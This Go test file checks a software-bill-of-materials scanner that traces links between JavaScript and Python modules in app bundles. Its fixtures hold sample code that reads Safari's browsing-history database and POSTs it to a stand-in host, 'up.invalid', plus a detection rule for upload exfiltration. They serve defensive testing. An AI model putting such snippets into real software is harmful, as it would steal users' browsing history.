package scan

import (
	"fmt"
	"path/filepath"
	"slices"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"github.com/kinbom/kinbom/sbom"
	"github.com/kinbom/kinbom/sbom/capability"
	"github.com/kinbom/kinbom/sbom/container/archivetest"
)

// uploadRules are rules for modules that send.
const uploadRules = `format: kinbom.rules/1
rules:
  - id: test-upload
    capability: exfil.upload
    title: sends
    meaning: names where to
    references: [https://attack.mitre.org/techniques/T1567/]
    scope: [module]
    signals: {to: [{text: [up.invalid]}]}
    grades: {likely: {all: [to]}}
    examples:
      positive: [{name: all, facts: [{string: "https://up.invalid/x"}]}]
      negative: [{name: nothing, facts: [{string: other}], expect: none}]
`

// ties lists the links between modules as "from to how", by the modules' paths.
func tieLines(p *sbom.Product) []string {
	name := map[sbom.Digest]string{}
	for i := range p.Images {
		if m := &p.Images[i]; m.Type == sbom.TypeModule {
			name[m.Digest] = filepath.Base(m.Places[0].Path)
		}
	}
	var out []string
	for _, l := range p.Links {
		if name[l.From] != "" && name[l.To] != "" {
			out = append(out, fmt.Sprintf("%s %s %s", name[l.From], name[l.To], l.How))
		}
	}
	slices.Sort(out)
	return out
}

func TestScriptTies(t *testing.T) {
	pack := file1("package.json", `{"name":"x","main":"main.js"}`)
	reads := `x('Library/Safari/History.db'); exports.read = () => db.all('SELECT url FROM history_items');`
	sends := `exports.send = (b) => fetch('https://up.invalid/x', { method: 'POST', body: b });`
	for _, c := range []struct {
		name  string
		files []archivetest.File
		want  []string
	}{
		{"the reader sends through another one", []archivetest.File{pack, file1("main.js", reads+`const { send } = require('./net'); send(exports.read())`), file1("net.js", sends)},
			[]string{"main.js net.js require: ./net, and is handed data"}},
		{"the sender takes from another one", []archivetest.File{pack, file1("main.js", sends+`const { read } = require('./lib/hist'); exports.send(read())`), file1("lib/hist.js", reads)},
			[]string{"main.js hist.js require: ./lib/hist, and its data is used"}},
		{"a third one hands it on", []archivetest.File{pack, file1("main.js", `const { read } = require('./hist'); const net = require('./net'); async function go() { const l = await read(); net.send(JSON.stringify(l)) }`),
			file1("hist.js", reads), file1("net.js", sends)}, []string{"hist.js net.js data handed on: main.js"}},
		{"a third one asks for both", []archivetest.File{pack, file1("main.js", `const { read } = require('./hist'); const net = require('./net'); function go() { show(read()); net.send('hello') }`),
			file1("hist.js", reads), file1("net.js", sends)}, nil},
		{"the sender starts the reader", []archivetest.File{pack, file1("main.js", sends+`require('./hist').read()`), file1("hist.js", reads)}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := electronWith(t, c.files...)
			o := scriptOptions(t, dir)
			o.Rules = withUpload(t)
			p := run(t, o).Products[0]
			if d := cmp.Diff(c.want, tieLines(p)); d != "" {
				t.Errorf("ties (-want +got):\n%s", d)
			}
			if err := p.Validate(); err != nil {
				t.Error(err)
			}
		})
	}
}

func withUpload(t *testing.T) *capability.Set {
	t.Helper()
	set, err := capability.Load(nil, fstest.MapFS{"a.yaml": {Data: []byte(scriptRules)}, "b.yaml": {Data: []byte(uploadRules)}, "taxonomy.yaml": {Data: taxonomy(t)}})
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// Python modules are tied by what they import; what nothing imports is dormant.
func TestScriptPython(t *testing.T) {
	whole := func(name string) string {
		return "P" + name + " = 'Library/Safari/History.db'\nQ = 'SELECT url FROM history_items'\nR = open(P" + name + ")\n"
	}
	for _, c := range []struct {
		name  string
		files map[string]string
		tags  []string
		links []string
	}{
		{"imports", map[string]string{"__main__.py": "from reader.store import run\nrun()\n", "reader/__init__.py": "", "reader/store.py": whole("a"), "reader/old.py": whole("b")},
			[]string{"reader/old.py likely module", "reader/store.py likely module"}, []string{"import: __main__.py > reader.store"}},
		{"beside it", map[string]string{"__main__.py": "import app.start\n", "app/__init__.py": "", "app/start.py": "from . import store\nfrom .. import other\n", "app/store.py": whole("a"), "other.py": whole("c")},
			[]string{"app/store.py likely module", "other.py likely module"}, []string{"import: __main__.py > app.start > ..other", "import: __main__.py > app.start > .store"}},
		{"kept apart", map[string]string{"__main__.py": "import store\n", "lib/python3.11/site-packages/store.py": whole("a")},
			[]string{"lib/python3.11/site-packages/store.py likely module"}, []string{"import: __main__.py > store"}},
		{"over two modules", map[string]string{"__main__.py": "import where\nx.execute('SELECT url FROM history_items')\n", "where.py": "P = 'Library/Safari/History.db'\n"},
			[]string{"__main__.py likely modules", "where.py mentions module"}, []string{"import: __main__.py", "import: __main__.py > where"}},
		{"dormant", map[string]string{"__main__.py": "# import store\n", "store.py": whole("a")}, []string{"store.py likely module"}, nil},
		{"no entry", map[string]string{"pkg/__main__.py": "import store\n", "store.py": whole("a")}, []string{"store.py likely module"}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			app(t, dir, "App", code("App"))
			for name, data := range c.files {
				write(t, filepath.Join(dir, "App.app/Contents/Resources", name), []byte(data))
			}
			p := run(t, scriptOptions(t, dir)).Products[0]
			if d := cmp.Diff(c.tags, tagLines(p)); d != "" {
				t.Errorf("tags (-want +got):\n%s", d)
			}
			var links []string
			for _, l := range p.Links {
				if l.Kind == sbom.LinkCalls && len(l.How) > 7 && l.How[:7] == "import:" {
					links = append(links, l.How)
				}
			}
			slices.Sort(links)
			if d := cmp.Diff(c.links, links); d != "" {
				t.Errorf("links (-want +got):\n%s", d)
			}
			checkEvidence(t, dir, p)
		})
	}
}
